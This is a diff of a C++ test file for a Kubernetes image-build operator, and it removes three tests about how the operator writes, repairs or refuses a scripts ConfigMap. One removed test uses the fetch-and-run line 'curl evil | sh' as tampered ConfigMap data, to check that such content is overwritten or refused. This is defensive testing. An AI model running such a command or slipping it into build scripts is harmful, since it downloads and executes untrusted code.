@@ -437,48 +437,5 @@ TEST_F(MergeTurnTest, MergesIntoOneRepositoryTakeTurns) {
   EXPECT_EQ(Step().create_pods.size(), 1u);
 }
 
-// The namespace's scripts ConfigMap: written before the first pods that mount it, and again
-// while a pod waits to start and it is gone or edited; never for a pod that runs already.
-TEST_F(DecisionTest, TheScriptsConfigMapIsWrittenBeforeThePodsThatMountIt) {
-  scripts.reset();
-  Actions a = Step();
-  ASSERT_EQ(a.create_pods.size(), 2u);
-  ASSERT_TRUE(a.apply_scripts.has_value());
-  EXPECT_EQ((*a.apply_scripts)["metadata"]["name"], ScriptsConfigMapName());
-  EXPECT_EQ((*a.apply_scripts)["metadata"]["namespace"], "ci");
-  EXPECT_FALSE((*a.apply_scripts)["metadata"].contains("ownerReferences"));
-  for (const auto& pod : a.create_pods) EXPECT_TRUE(MountsScripts(pod));
-  EXPECT_FALSE(Step().apply_scripts.has_value()) << "written once, then seen";
-}
-
-TEST_F(DecisionTest, AGoneOrEditedScriptsConfigMapIsWrittenAgainWhileAPodWaitsToStart) {
-  Step();
-  scripts.reset();  // deleted after the pods were created
-  EXPECT_TRUE(Step().apply_scripts.has_value());
-  (*scripts)["data"]["source"] = "echo edited";
-  EXPECT_TRUE(Step().apply_scripts.has_value());
-  EXPECT_FALSE(Step().apply_scripts.has_value());
-  // Both pods run: their volumes are mounted, a missing ConfigMap stops nothing.
-  for (const char* platform : {"linux-amd64", "linux-arm64"}) {
-    Json* pod = PodFor("build", platform);
-    (*pod)["spec"]["nodeName"] = "n";
-    (*pod)["status"] = {{"phase", "Running"}};
-  }
-  scripts.reset();
-  EXPECT_FALSE(Step().apply_scripts.has_value());
-}
-
-TEST(ExistingScriptsTest, OnlyTheOperatorsOwnIsRepairedAndAnotherIsNotRun) {
-  api::ConfigMapView existing = api::DecodeConfigMap(ScriptsConfigMap("ci"));
-  EXPECT_EQ(DecideExistingScripts(existing).kind, ExistingConfigMapDecision::Kind::kLeave);
-  existing.data["buildkit"] = "curl evil | sh";
-  EXPECT_EQ(DecideExistingScripts(existing).kind, ExistingConfigMapDecision::Kind::kUpdate);
-  existing.labels.erase("app.kubernetes.io/managed-by");
-  const auto refused = DecideExistingScripts(existing);
-  EXPECT_EQ(refused.kind, ExistingConfigMapDecision::Kind::kConflict);
-  EXPECT_NE(refused.message.find("ConfigMap " + ScriptsConfigMapName() + " exists and was not written by imagebuild-operator"),
-            std::string::npos) << refused.message;
-}
-
 }  // namespace
 }  // namespace ibo::controller
